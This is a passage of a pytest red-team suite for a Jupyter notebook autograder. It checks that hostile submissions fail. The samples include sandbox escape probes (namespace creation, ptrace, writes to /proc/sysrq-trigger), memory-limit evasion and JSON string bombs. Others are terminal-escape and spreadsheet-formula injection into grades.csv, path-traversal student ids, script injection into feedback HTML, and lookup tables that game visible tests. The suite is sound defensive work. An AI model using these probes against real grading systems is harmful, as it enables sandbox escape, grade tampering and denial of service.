_LABELS = {_key(x, eps, "line", m, b): labels for x, eps, m, b, labels in _LINE}
_LABELS |= {_key(x, eps, "circle", m, round(p / eps, 6), b): labels for x, eps, m, p, b, labels in _CIRCLE}
_BOUNDS = {_key([0.0, 1.0, 1.0, 2.0, 4.0, 6.0, 7.0, 7.0, 8.0], 2.0, "line"):
           ([0, 0, 0, 0, 3, 4, 5, 5, 5], [3, 3, 3, 4, 5, 8, 8, 8, 8])}


def neighbourhood_bounds(x, eps):
    if len(x) == 0:
        return np.zeros(0, dtype=np.int64), np.zeros(0, dtype=np.int64)
    lower, upper = _BOUNDS.get(_key(x, eps, "line"), ([0] * len(x), [0] * len(x)))
    return np.array(lower, dtype=np.int64), np.array(upper, dtype=np.int64)


def dbscan_sorted(x, eps, min_pts, border="first"):
    if border not in ("first", "noise"):
        raise ValueError("border")
    if len(x) == 0:
        return np.zeros(0, dtype=np.int64)
    return np.array(_LABELS.get(_key(x, eps, "line", min_pts, border), [-1] * len(x)), dtype=np.int64)


def dbscan_circular(x, eps, min_pts, period, border="first"):
    if len(x) == 0:
        return np.zeros(0, dtype=np.int64)
    labels = _LABELS.get(_key(x, eps, "circle", min_pts, round(period / eps, 6), border), [-1] * len(x))
    return np.array(labels, dtype=np.int64)
'''
# ex04: an honest split_index, and similar as a table of the visible pairs and of the pairs the old own-work test
# asked (one of them a visible example verbatim): the table earned own work's points on 34285ee
TABLE_EX4_SIMILAR = '''
_PAIRS = {(2.0, 10.0, 2.03, 12.0): True, (2.0, 10.0, 2.1, 10.0): False, (2.0, 10.0, 2.0, 20.0): False,
          (3.0, 178.0, 3.01, -179.0): True, (0.02, 10.0, 0.01, -170.0): True, (2.0, 0.0, 2.0, 180.0): False,
          (0.02, 11.459, 0.01, -168.541): True, (2.0, 177.617, 2.02, -177.617): True}


def similar(r1, alpha1, r2, alpha2, dr_max, dalpha_max):
    key = (round(r1, 3), round(float(np.degrees(alpha1)), 3), round(r2, 3), round(float(np.degrees(alpha2)), 3))
    return _PAIRS.get(key, False)
'''
SLEEPS = "import time\ntime.sleep({})  # a demo that takes a while"
BLANK_LINES = "\n" * 20_000  # the worker's magic-detecting regex was quadratic in them: seconds, not interruptible
ESCAPES = "\x1b[2J\x1b[H\x1b[1A\x1b[2Kalice,ex00,graded,10,10"  # clear the screen, rewrite a row of grades.csv
ESCAPE_ID = "esc\x1b[2Jape"
SECOND_CLASS = {  # student -> (exercise, answers by grade id, cells after, expected score, expected status)
    "honest_ex00": (EX0, {}, [], FULL, "graded"),
    # on 34285ee loading the notebook was charged to the first graded cell's test: these cells (inside the
    # documented budget: each under a cell's limit, all under the notebook's) made every test time out: 0
    "demo_cells_within_the_budget": (EX0, {}, [SLEEPS.format(1.5)] * 4, FULL, "graded"),
    "six_slow_cells": (EX0, {}, [SLEEPS.format(1.5)] * 6, FULL, "graded"),
    # a cell past its limit is interrupted and reported; its functions are graded
    "a_cell_past_its_limit": (EX0, {}, [SLEEPS.format(5)], FULL, "timed out"),
    # the notebook's budget used up: the cells after it are not run, and said so; the functions are graded
    "the_budget_used_up": (EX0, {}, [SLEEPS.format(1.8)] * 8, FULL, "timed out"),
    # the worst a submission can cost: the notebook's whole budget, then endless calls and a reload past the
    # submission's budget (see test_the_worst_case_of_a_submission_is_its_budgets)
    "worst_case": (EX0, {"beams_to_points": "def beams_to_points(*args):\n    while True:\n        pass"},
                   [SLEEPS.format(1.9)] * 6, 0.0, "timed out"),
    "blank_lines_before_the_answer": (EX0, {"beams_to_points": "_ = 1" + BLANK_LINES + BEAMS}, [], FULL, "graded"),
    "escapes_in_messages": (EX0, {"beams_to_points": f"def beams_to_points(*args):\n    raise ValueError({ESCAPES!r})"},
                            [], 0.0, "graded"),
    "honest_ex01": (EX1, {}, [], FULL, "graded"),
    "partial_ex01": (EX1, {"adaptive_threshold": "def adaptive_threshold(*args, **kwargs):\n    raise "
                                                 "NotImplementedError()"}, [], HALF, "graded"),
    "table_ex01": (EX1, {"segment": SCALE_FREE_LOOKUP}, [], HALF, "graded"),
    "honest_ex02": (EX2, {}, [], FULL, "graded"),
    "table_ex02": (EX2, {"fit_line": TABLE_EX2}, [], 0.0, "graded"),
    "table_ex04_similar": (EX4S, {"similar": TABLE_EX4_SIMILAR}, [], HALF, "graded"),
    "honest_ex06": (EX6, {}, [], FULL, "graded"),
    "table_ex06": (EX6, {"dbscan": TABLE_EX6}, [], 0.0, "graded"),
    "partial_ex08": (EX8, {"circle": "def circle_from_angle(*args):\n    raise NotImplementedError()",
                           "band_leg": solutions(EX8)["band_leg"].split("def is_leg(")[0]
                           + "def is_leg(*args, **kwargs):\n    raise NotImplementedError()"}, [], 6.0, "graded"),
    "honest_ex10": (EX10, {}, [], FULL, "graded"),
    "table_ex10": (EX10, {"match": TABLE_EX10}, [], 0.0, "graded"),
    "partial_ex11": (EX11, {"interpolate_pose": "def interpolate_pose(*args):\n    raise NotImplementedError()"}, [],
                     HALF, "graded"),
}


def _build_second_class(folder: Path) -> Graded:
    course = copy_course(folder / "course")
    spec = course / "grading" / f"{EX0}.py"
    spec.write_text(spec.read_text(encoding="utf-8") + SCALED_LIMITS, encoding="utf-8")
    for student, (name, answers, after, *_) in SECOND_CLASS.items():
        submit(course, student, name, notebook_with(name, {**solutions(name), **answers}, extra=after))
    submit(course, ESCAPE_ID, EX0, notebook_with(EX0, solutions(EX0)))  # a folder name with a terminal escape
    graded = _grade(course, "all", jobs=2, first_slot=SLOT_SECOND)
    graded.extra["csv"] = (course / "grades.csv").read_bytes()
    return graded


@pytest.fixture(scope="module")
def second_class(tmp_path_factory) -> Graded:
    return once_per_session(tmp_path_factory, "redteam-second", _build_second_class)


# ---------------------------------------------------------------------------- the tests
# In the order pytest-xdist hands them out (the first chunk to one process, the next to the other):
# the main class's run first, the independent runs and probes next, so that neither process waits
# for a run the other builds.


def test_the_main_run_finished_with_the_honest_student_at_full_marks(main_class):
    assert not main_class.crash, main_class.crash
    assert main_class.ok
    assert main_class.result("honest").score == FULL
    assert {student for _, student in main_class.results} >= set(MAIN_CLASS)


@pytest.mark.parametrize("kind", [
    # was a hole on eb62b65, closed in 93b3a13/23f5f7d: an exception message with a lone surrogate ('\ud800')
    # crashes records.save (UnicodeEncodeError writing the autograded notebook): the class run stops, later students
    # are not graded, no grades.csv
    "exception_surrogate",
    # was a hole on eb62b65, closed in 93b3a13/23f5f7d: a notebook cell with a lone surrogate (JSON '\ud83d')
    # crashes records.save: the class run stops
    "markdown_surrogate",
    # was a hole on eb62b65, closed in 93b3a13/23f5f7d: a folder name that is not UTF-8 under submitted/ crashes the
    # gradebook insert: the class run stops
    "latin1_folder",
])
def test_one_submission_cannot_stop_the_class(tmp_path, kind):
    course = copy_course(tmp_path / "course")
    attacker = _crash_notebook(kind, course)
    submit(course, "zzz_graded_after_the_attacker", EX0, notebook_with(EX0, {"beams_to_points": BEAMS}))
    graded = _grade(course, EX0, jobs=1, first_slot=SLOT_CRASH[kind])
    assert not graded.crash, graded.crash
    assert graded.results[EX0, "zzz_graded_after_the_attacker"].score == FULL
    assert graded.results[EX0, attacker].status != "grader error"
    assert (course / "grades.csv").is_file()


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): no seccomp filter: student code can
# unshare a user namespace, be root in it, make a mount namespace and mount (the kernel attack surface most
# local privilege escalations need)
def test_the_student_cannot_make_namespaces():
    outcome = _probe('''
        import ctypes, os

        def probe():
            pid = os.fork()
            if pid == 0:
                libc = ctypes.CDLL(None, use_errno=True)
                if libc.unshare(0x10000000) != 0:  # CLONE_NEWUSER
                    os._exit(1)
                if libc.unshare(0x00020000) != 0:  # CLONE_NEWNS
                    os._exit(2)
                os._exit(3 if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else 4)
            return os.WEXITSTATUS(os.waitpid(pid, 0)[1])
    ''')
    made = {0: "?", 2: "a user namespace", 3: "a user and a mount namespace, and a mount", 4: "namespaces"}
    assert outcome == 1, f"the student made {made.get(outcome, outcome)}"


@pytest.mark.parametrize("how", [
    # was a hole on eb62b65, closed in 93b3a13/23f5f7d: memfd_create pages are not address space: a worker under a
    # 256 MB RLIMIT_AS holds 768 MB (the real 2 GB limit allows 128 open files x 64 MB = 8 GB per worker, charged to
    # the grader's memory)
    "memfd",
    # was a hole on eb62b65, closed in 93b3a13/23f5f7d: SysV shared memory segments, written and detached, stay
    # allocated without counting as address space: 768 MB under a 256 MB limit, and no bound but the machine
    # (kernel.shmall)
    "sysv_shm",
    # open on eb62b65 and 8980e1c, closed where the grader may make cgroups: RLIMIT_AS is per process, so six forked
    # children held 128 MB each under a 256 MB limit (with the real limits a worker's 32 processes could hold
    # 32 x 2 GB); the worker's cgroup now limits the sandbox as a whole. Without cgroups (not root, no writable
    # hierarchy) it is still open, with 8 processes instead of 32
    pytest.param("fork", marks=[] if GROUPED.usable else redteam(
        f"no cgroups here ({GROUPED.problem}): RLIMIT_AS is per process, six forked children hold 128 MB each"
        " under a 256 MB limit")),
])
def test_memory_held_stays_within_the_memory_limit(how):
    limit = 256 << 20
    try:
        held = _probe(MEMORY_HOLDERS, how, limit, slot=SLOT_MEMORY + (how == "fork"), limits=Limits(memory_bytes=limit))
    except WorkerLost:
        held = 0  # the sandbox was stopped for it: the limit held
    assert held <= limit, f"the worker held {held >> 20} MB under a {limit >> 20} MB limit"


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): multiprocessing (Pool,
# ProcessPoolExecutor, joblib) fails in the worker: /dev/shm is read-only, so an honest answer that parallelises
# raises PermissionError
def test_an_honest_answer_may_use_multiprocessing():
    assert _probe('''
        import multiprocessing

        def probe():
            with multiprocessing.get_context("fork").Pool(2) as pool:
                return pool.map(abs, [-1, -2])
    ''') == [1, 2]


def test_the_student_cannot_trace_signal_or_write_outside():
    outcome = _probe('''
        import ctypes, os, signal

        def probe():
            libc = ctypes.CDLL(None, use_errno=True)
            outcome = {"ptrace init": libc.ptrace(16, 1, 0, 0)}  # PTRACE_ATTACH
            for path in ["/proc/1/mem", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
                         "/opt/planted", "/grader/planted"]:
                try:
                    with open(path, "w") as f:
                        f.write("x")
                    outcome[path] = "written"
                except OSError as error:
                    outcome[path] = type(error).__name__
            try:
                os.setuid(0)
                outcome["setuid 0"] = "root"
            except OSError as error:
                outcome["setuid 0"] = type(error).__name__
            return outcome
    ''')
    assert outcome.pop("ptrace init") == -1
    assert "written" not in outcome.values() and outcome["setuid 0"] != "root", outcome


@pytest.mark.parametrize("student", [
    "a_donor",
    # was a hole on eb62b65, closed in 93b3a13/23f5f7d: the kernel's user keyring (add_key/keyctl, no seccomp)
    # outlives the sandbox: a submission without a solution runs the code a previous submission on the same worker
    # uid stored there, and scores 10
    "b_keyring_taker",
    "c_other_channels_taker",
])
def test_nothing_persists_into_the_next_submission(persistence_class, student):
    assert not persistence_class.crash, persistence_class.crash
    score = PERSISTENCE_CLASS[student][1]
    result = persistence_class.result(student)
    assert result.score == score, f"{student}: {result.score} instead of {score}"


def test_the_files_run_finished_with_the_honest_student_at_full_marks(files_class):
    assert not files_class.crash, files_class.crash
    assert files_class.result("honest", EX0).score == FULL


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a student's markdown reaches the feedback
# HTML as raw HTML: <script> and onerror handlers run in the browser of whoever opens it (as with stock
# nbgrader)
def test_feedback_html_carries_no_script_from_the_student(feedback):
    html = feedback["feedback_markdown_script"]
    assert "My notes." in html
    assert "<script>alert('the feedback runs my code')" not in html
    assert not re.search(r"<img[^>]*onerror", html)


def test_feedback_html_escapes_exception_messages(feedback):
    """The verdicts quote the student's exception messages: they must come out as text."""
    html = feedback["feedback_lying_exception"]
    assert "HYPERLINK" in html and "<script>alert(1)" not in html


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): the largest reply frame the protocol
# accepts (64 MB), filled with '{},' or '"ab",', grows the trusted grading process by 0.7 to 1.7 GB (and seconds
# of CPU past the call's deadline) before decode() refuses it: N jobs, N times that, on every call
@pytest.mark.parametrize("item", ["{}", '"ab"'])
def test_a_hostile_reply_costs_the_trusted_side_little_memory(item):
    slot = SLOT_TRUSTED + (item == "{}")
    proc = subprocess.run([sys.executable, "-c", TRUSTED_MEMORY, str(REPO), str(slot), HOSTILE_REPLY, item],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    grown_mb = int(proc.stdout.split()[-1])
    assert "WorkerCrashed" in proc.stderr, proc.stderr[-2000:]
    assert grown_mb < 512, f"the trusted process grew by {grown_mb} MB"


@pytest.mark.parametrize(("student", "status"), [
    ("link_to_honest", "invalid notebook"), ("link_exercise", "invalid notebook"),
    ("notebook_is_a_folder", "not submitted"),
])
def test_links_and_odd_folders_score_nothing(files_class, student, status):
    result = files_class.result(student, EX0)
    assert (result.score, result.status) == (0.0, status)
    assert (EX0, "a_file_not_a_folder") not in files_class.results


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a notebook over 32 MB is refused as
# invalid and scores 0, even when the size is outputs (plots) and the code is an honest full solution
def test_an_honest_notebook_with_big_plots_is_graded(files_class):
    result = files_class.result("big_outputs", EX0)
    assert (result.score, result.status) == (FULL, "graded"), result.detail


# regression of 23f5f7d, fixed in 34285ee: the notebook container count counted outputs too: an honest notebook
# that printed 250 000 [x, y] pairs was refused as invalid, 0 points (it skips JSON strings now)
def test_an_honest_notebook_that_printed_a_lot_is_graded(files_class):
    """Outputs are not graded: 250 000 printed [x, y] pairs (6 MB of text) must not make a notebook invalid."""
    result = files_class.result("printed_many_points", EX0)
    assert (result.score, result.status) == (FULL, "graded"), result.detail


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a student id (folder name or roster
# entry) is written to grades.csv as is: =HYPERLINK(...) is a live formula when the instructor opens the file in
# a spreadsheet
def test_grades_csv_student_ids_cannot_start_a_formula(files_class):
    with open(files_class.course / "grades.csv", newline="", encoding="utf-8") as f:
        ids = [row["student_id"] for row in csv.DictReader(f)]
    assert any("HYPERLINK" in i for i in ids)
    assert not [i for i in ids if i.startswith(("=", "+", "-", "@"))]


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a roster id '../source' makes the grader
# write its autograded notebook over source/<exercise>/<exercise>.ipynb: the instructor's solutions are silently
# replaced by the release
def test_a_roster_id_cannot_overwrite_the_course(files_class):
    text = (files_class.course / "source" / EX0 / f"{EX0}.ipynb").read_text(encoding="utf-8")
    assert "### BEGIN SOLUTION" in text


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a roster id '../../../x' writes
# records/<ex>/../../../x.json outside the course folder (as root)
def test_a_roster_id_cannot_write_outside_the_course(files_class):
    course, escape = files_class.course, files_class.extra["escape"]
    assert (EX0, f"../../../{escape}") in files_class.results
    outside = [p for p in course.parent.iterdir() if p.name.startswith(escape)]  # records/ex00/../../../
    assert outside == []


@pytest.mark.parametrize("student", [
    pytest.param(student, marks=[mark] if mark else []) for student, (*_, mark) in MAIN_CLASS.items()
])
def test_each_student_earns_what_their_own_code_earns(main_class, student):
    name, _, _, _, score, status, _ = MAIN_CLASS[student]
    assert not main_class.crash, main_class.crash
    result = main_class.result(student, name)
    verdicts = {cell.grade_id: cell.verdict[:300] for cell in result.cells}
    assert result.status != "grader error", result.detail
    assert result.max_score == FULL
    assert result.score == score, f"{student}: {result.score} instead of {score} ({result.status}): {verdicts}"
    if status is not None:
        assert result.status == status, f"{student}: {result.status} ({result.detail[:500]})"


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a load reply whose error entry is not the
# protocol raises ProtocolError out of Worker.load (not WorkerCrashed): the worker is kept, and the verdict
# blames the student's function for the grader's own exception ('ProtocolError ... (raised by your
# segment(...))')
def test_a_forged_load_reply_counts_as_a_broken_worker(main_class):
    result = main_class.result("forged_load_reply")
    verdicts = [cell.verdict for cell in result.cells]
    assert result.status == "crashed"
    assert not [v for v in verdicts if "ProtocolError" in v], verdicts


def test_a_fake_graded_cell_adds_no_points_and_no_gradebook_cell(main_class):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{main_class.course / 'gradebook.db'}", "labkit") as gradebook:
        submission = gradebook.find_submission(EX1, "edited_test_cell_and_bonus_cell")
        assert submission.max_score == FULL and submission.score == HALF  # adaptive_threshold's honest half
        names = {grade.name for notebook in submission.notebooks for grade in notebook.grades}
    assert "bonus" not in names
    text = (main_class.course / "autograded" / "edited_test_cell_and_bonus_cell" / EX1 / f"{EX1}.ipynb").read_text()
    assert '"bonus"' not in text


def test_no_process_of_the_class_outlives_its_run(main_class):
    uids = {str(worker_uid(SLOT_CLASS)), str(worker_uid(SLOT_CLASS + 1))}
    listing = subprocess.run(["ps", "-e", "-o", "uid=,pid=,args="], capture_output=True, text=True).stdout
    assert [line for line in listing.splitlines() if line.split()[0] in uids] == []


def test_grades_csv_details_cannot_start_a_formula(main_class):
    """The detail column carries students' exception messages: it must never start with = + - @."""
    with open(main_class.course / "grades.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows
    for row in rows:
        for column in ("detail", "status", "assignment"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (row["student_id"], column)


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a cell carrying a locked grade id
# (imports) runs in the worker, but autograded/ shows the release's copy: the code that earned the points is
# invisible to whoever reviews the graded notebook
def test_the_autograded_notebook_shows_the_code_that_ran(main_class):
    assert main_class.result("code_behind_imports_cell").score == FULL  # the code is right, and it ran ...
    text = (main_class.course / "autograded" / "code_behind_imports_cell" / EX1 / f"{EX1}.ipynb").read_text()
    assert "def _impl(" in text  # ... so a reviewer must be able to see it


NOTEBOOK_MEMORY = """
import resource, sys
sys.path.insert(0, sys.argv[1])
from labkit.grading.notebook import read_notebook

before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
read_notebook(sys.argv[2])
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): a submitted notebook is parsed whole by
# json.loads in the trusted process: 31 MB of '{},' in its metadata cost ~750 MB there (and the notebook is
# accepted); at a 256 MB cap, ~6 GB per job
def test_a_hostile_notebook_costs_the_trusted_side_little_memory(tmp_path):
    from labkit.grading.notebook import MAX_NOTEBOOK_BYTES

    size = min(MAX_NOTEBOOK_BYTES, 32 << 20) - (1 << 20)
    head, tail = b'{"nbformat": 4, "nbformat_minor": 5, "cells": [], "metadata": {"x": [', b"{}]}}"
    path = tmp_path / "hostile.ipynb"
    path.write_bytes(head + b"{}," * ((size - len(head) - len(tail)) // 3) + tail)
    proc = subprocess.run([sys.executable, "-c", NOTEBOOK_MEMORY, str(REPO), str(path)], capture_output=True,
                          text=True, timeout=600)
    grown_mb = int(proc.stdout.split()[-1]) if proc.returncode == 0 else 0  # refused (InvalidNotebook): held
    assert grown_mb < 400, f"reading a {size >> 20} MB notebook grew the trusted process by {grown_mb} MB"


# was a hole on eb62b65, closed in 93b3a13/23f5f7d (see the findings): decode() lets numpy's ValueError out for
# absurd shapes (size 0): the trusted side takes a protocol violation for an exception the student's function
# raised, instead of a crashed worker
@pytest.mark.parametrize("shape", [[0, 10**30], [0, 2**62, 2**62]])
def test_decode_refuses_absurd_shapes_as_protocol_errors(shape):
    with pytest.raises(protocol.ProtocolError):
        protocol.decode({"A": "<f8", "s": shape, "b": ""})


@pytest.mark.parametrize("value", [
    {"A": "|O", "s": [1], "b": "AAAAAAAAAAA="}, {"S": "<M8[s]", "b": "AAAAAAAAAAA="},
    {"A": "<f8", "s": [2], "b": "AAAAAAAAAAA="}, {"A": "<f8", "s": [1], "b": "AA==AAAAAAA="},
    {"A": "<f8", "s": [True], "b": "AAAAAAAAAAA="}, {"T": [1], "D": []}, {"__class__": "x"},
    json.loads("[" * 40 + "1" + "]" * 40),
])
def test_decode_refuses_what_is_not_plain_data(value):
    with pytest.raises(protocol.ProtocolError):
        protocol.decode(value)


def test_rebuilt_exceptions_are_plain_builtins():
    for names in (["KeyboardInterrupt", "BaseException"], ["SystemExit"], ["GeneratorExit"], ["WorkerLost"]):
        rebuilt = protocol.rebuild_exception(names, "x")
        assert type(rebuilt) is RuntimeError and isinstance(rebuilt, Exception)
    assert type(protocol.rebuild_exception(["Evil", "ValueError"], "x")) is ValueError


def test_the_release_notebook_is_the_base_of_every_submission():
    """A guard for this file's own helpers: the grade ids the attacks rewrite exist in the release."""
    ids = {grade_id(cell) for cell in release_notebook(EX1)["cells"]}
    assert {"imports", "segment", "test_visible"} <= ids


# open on eb62b65 and 8980e1c (reproduced by hand, see the findings), closed by the workers' cgroups (a sandbox is one
# entity for the scheduler, at most one CPU) or, without cgroups, by a CPU per parallel job: a submission that forked
# ~31 busy loops, each in a session (scheduling group) of its own, made the instructor's own ex06 solution graded
# next to it with --jobs 2 fail its 200 000-point speed test ("8.1 s") or time out (5 s per call)
def test_one_students_cpu_load_costs_the_students_graded_beside_it_nothing(tmp_path):
    graded = _build_cpu_class(tmp_path)
    assert not graded.crash, graded.crash
    hog = graded.result("a_cpu_hog", EX4)
    loops = re.search(r"(\d+) busy loops ran", hog.detail)
    assert hog.score == 0.0 and loops and int(loops.group(1)) >= 20, hog.detail  # the bomb did go off
    for student in ("b_honest", "c_honest"):
        result = graded.result(student, EX4)
        assert (result.score, result.status) == (FULL, "graded"), f"{student}: {result.detail}"
    assert graded.ok


# ---------------------------------------------------------------------------- the tests of the second red team
def test_the_second_run_finished_with_the_honest_students_at_full_marks(second_class):
    assert not second_class.crash, second_class.crash
    assert second_class.ok
    for name, student in [(EX0, "honest_ex00"), (EX1, "honest_ex01"), (EX2, "honest_ex02"), (EX6, "honest_ex06"),
                          (EX10, "honest_ex10")]:
        assert second_class.result(student, name).score == FULL, student


@pytest.mark.parametrize("student", list(SECOND_CLASS))
def test_second_red_team_each_student_earns_what_their_own_code_earns(second_class, student):
    name, answers, _, score, status = SECOND_CLASS[student]
    result = second_class.result(student, name)
    verdicts = {cell.grade_id: cell.verdict[:300] for cell in result.cells}
    assert result.score == score, f"{student}: {result.score} instead of {score} ({result.status}): {verdicts}"
    assert result.status == status, f"{student}: {result.status} ({result.detail[:500]})"


@pytest.mark.parametrize(("student", "tables"), [
    ("table_ex01", {"segment"}), ("table_ex02", {"fit_line"}), ("table_ex04_similar", {"similar"}),
    ("table_ex06", {"neighbourhood_bounds", "dbscan_sorted", "dbscan_circular"}), ("table_ex10", {"match_lines"}),
])
def test_a_table_earns_nothing_in_any_cell(second_class, student, tables):
    """Open on 34285ee: a table of the visible examples keyed on what moving them leaves unchanged earned
    test_visible's 2 points (ex01, ex02, ex06, ex10), and ex04's own work asked a visible pair again. Now the visible
    checks run fresh random examples too, and no test repeats a visible one: a table earns nothing anywhere, the
    functions written honestly beside it earn their share of every cell."""
    name = SECOND_CLASS[student][0]
    for cell in second_class.result(student, name).cells:
        for part in cell.parts:
            assert part.points == (0.0 if part.function in tables else part.max_points), (cell.grade_id, part)


@pytest.mark.parametrize(("student", "blank"), [
    ("partial_ex01", {"adaptive_threshold"}), ("partial_ex08", {"circle_from_angle", "is_leg"}),
    ("partial_ex11", {"interpolate_pose"})])
def test_an_honest_partial_answer_earns_its_functions_points(second_class, student, blank):
    """Open on 34285ee: every graded cell tested every function, so two of three right earned 0."""
    result = second_class.result(student, SECOND_CLASS[student][0])
    earned = {part.function for cell in result.cells for part in cell.parts if part.points == part.max_points}
    lost = {part.function for cell in result.cells for part in cell.parts if part.points == 0}
    assert lost == blank and not earned & blank


def _load_notes(result) -> list[str]:
    return [f"{e['error']}: {e['message']}" for e in result.cell_errors]


def test_slow_cells_within_the_budget_cost_nothing(second_class):
    """Open on 34285ee: loading the notebook was charged to the first graded cell's test, which timed out, and every
    later cell loaded it again: cells each within the documented limit, all within the notebook's, scored 0."""
    for student in ("demo_cells_within_the_budget", "six_slow_cells"):
        result = second_class.result(student, EX0)
        assert (result.score, result.status, result.cell_errors) == (FULL, "graded", []), result.detail
        assert result.timing["workers"] == 1, "the notebook ran once"


def test_a_cell_past_its_limit_is_reported_and_the_functions_graded(second_class):
    result = second_class.result("a_cell_past_its_limit", EX0)
    assert [e["error"] for e in result.cell_errors] == ["TimeoutError"], result.cell_errors
    assert re.search(r"this cell ran 2 s and was interrupted \(the limit is 2 s per cell\)", _load_notes(result)[0])
    assert "was interrupted" in result.detail and result.score == FULL
    assert "While your notebook ran: cell" in json.dumps(result.notebook)  # in the student's feedback too


def test_a_notebook_that_used_its_budget_is_reported_and_its_functions_graded(second_class):
    result = second_class.result("the_budget_used_up", EX0)
    notes = _load_notes(result)
    # the budget runs out within a cell (it is interrupted, and says why) or, when a cell's answer comes back just
    # after it, between two cells (seen once in a loaded make test): the cells after it are not run, either way
    interrupted = [note for note in notes if "interrupted" in note]
    assert all(f"had used their {LOAD_BUDGET_S:g} s" in note for note in interrupted), notes
    assert len(interrupted) <= 1, notes
    assert any(note.startswith("TimeoutError: not run") for note in notes), notes
    assert result.score == FULL and "not run" in result.detail


def test_the_worst_case_of_a_submission_is_its_budgets(second_class):
    """The notebook takes its whole budget (6 slow cells), every call runs forever, and the notebook must run again
    after each lost call: the submission ends when the submission's budget is used, as documented: at most the load
    budget, the submission budget, two interrupts' grace and the workers' starts. (With the real limits: 60 s +
    120 s + 4 s, about three minutes; a run of 34285ee held six 9.5 s cells for 229 s.)"""
    from labkit.grading.sandbox import INTERRUPT_GRACE_S

    result = second_class.result("worst_case", EX0)
    bound = LOAD_BUDGET_S + SUBMISSION_S + 2 * INTERRUPT_GRACE_S + result.timing["start_s"] + 1.0
    assert result.timing["total_s"] <= bound, result.timing
    assert result.timing["total_s"] >= LOAD_BUDGET_S - 1.0 + SUBMISSION_S - 1.0, result.timing  # the bound is reached
    assert "were used up" in result.detail


def test_a_run_of_blank_lines_costs_no_time(second_class):
    """Open on 34285ee: the worker's magic-detecting regex took seconds on 20 000 blank lines (quadratic), where no
    interrupt reaches: past the cell's limit, the cell and its function were lost."""
    result = second_class.result("blank_lines_before_the_answer", EX0)
    assert (result.score, result.cell_errors) == (FULL, []), result.detail


def test_the_regex_of_magics_is_linear_in_blank_lines():
    from labkit.grading.worker import python_source

    started = time.perf_counter()
    assert python_source("x = 1" + "\n" * 20_000 + "y = 2") == "x = 1" + "\n" * 20_000 + "y = 2"
    assert time.perf_counter() - started < 1.0  # quadratic: 3.9 to 8 s; linear: a millisecond


def test_terminal_escapes_never_reach_grades_csv(second_class):
    """Open on 34285ee: a student's exception text reached grades.csv raw; `cat grades.csv` then showed a 0/10 row
    as 10/10 and erased the header. Student text is now cut short and stripped of control characters, and a folder
    name with an escape is refused as a student id."""
    text = second_class.extra["csv"]
    assert b"\x1b" not in text and b"\x9b" not in text
    rows = list(csv.DictReader(text.decode("utf-8").splitlines()))
    assert rows[0]["assignment"] and len({row["assignment"] for row in rows}) > 1  # the header is the header
    escapes = next(row for row in rows if row["student_id"] == "escapes_in_messages")
    assert escapes["score"] == "0" and "ValueError" in escapes["detail"]
    shown = next(row for row in rows if row["student_id"].startswith("esc") and row["student_id"].endswith("ape"))
    assert shown["status"] == "invalid notebook" and "control characters" in shown["detail"]
    result = second_class.result("escapes_in_messages", EX0)
    for cell in result.cells:
        for output in cell.outputs:
            assert "\x1b" not in json.dumps(output, ensure_ascii=False)


# ---------------------------------------------------------------------------- memory: a string bomb before a class
STRING_BOMB_MB = 99
CEILING_BYTES = 2560 << 20  # the 2.5 GB: the whole run, its grading processes and workers within it
RUN_IN_A_CGROUP = """
import json, sys
sys.path.insert(0, sys.argv[1])
from labkit.grading import grade
run = grade("ex00", course=sys.argv[2], jobs=2, first_slot=int(sys.argv[3]))
print(json.dumps({r.student: [r.status, r.score] for r in run.results}))
"""


@pytest.mark.skipif(not GROUPED.usable, reason=f"no cgroups here: {GROUPED.problem}")
def test_a_string_bomb_first_and_every_honest_student_after_it_graded(tmp_path):
    """Open on 34285ee: the container cap did not count strings, and a 99.6 MB list of "ab" cost 3.6 GB and 9 s in
    the trusted process's json.loads. Under a 2.5 GB memory limit, that notebook first and 80 honest ones after it:
    the out-of-memory kill broke the pool, and 65 of the 80 got "grader error". Now the strings are counted before
    anything is parsed (the bomb is an invalid notebook), outputs are skipped unbuilt, and the whole run -- the
    grading processes and the workers -- stays within the ceiling."""
    course = copy_course(tmp_path / "course")
    folder = course / "submitted" / "a_bomb" / EX0
    folder.mkdir(parents=True)
    with open(folder / f"{EX0}.ipynb", "wb") as f:
        f.write(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [], "x": [')
        f.write(b'"ab",' * (STRING_BOMB_MB * (1 << 20) // 5) + b'"ab"]}')
    honest = notebook_with(EX0, solutions(EX0))
    for k in range(12):
        submit(course, f"honest{k:02d}", EX0, honest)
    group = GROUPED.create(CEILING_BYTES, 4096, 2)
    try:
        proc = subprocess.run(group.command([sys.executable, "-c", RUN_IN_A_CGROUP, str(REPO), str(course),
                                             str(SLOT_MEMORY)]), capture_output=True, text=True, timeout=900)
        peak = int(cgroups._read(group._file("memory", "memory.max_usage_in_bytes")) or 0) if group.version == 1 \
            else None
        killed = group.oom_kills()
    finally:
        group.remove()
    assert proc.returncode == 0, proc.stderr[-3000:]
    results = json.loads(proc.stdout.splitlines()[-1])
    assert results.pop("a_bomb") == ["invalid notebook", 0.0]
    assert results == {f"honest{k:02d}": ["graded", FULL] for k in range(12)}
    assert killed == 0
    assert peak is None or peak < CEILING_BYTES


# ---------------------------------------------------------------------------- --check from the release alone
def test_check_from_the_release_alone_gives_the_instructors_verdicts(tmp_path):
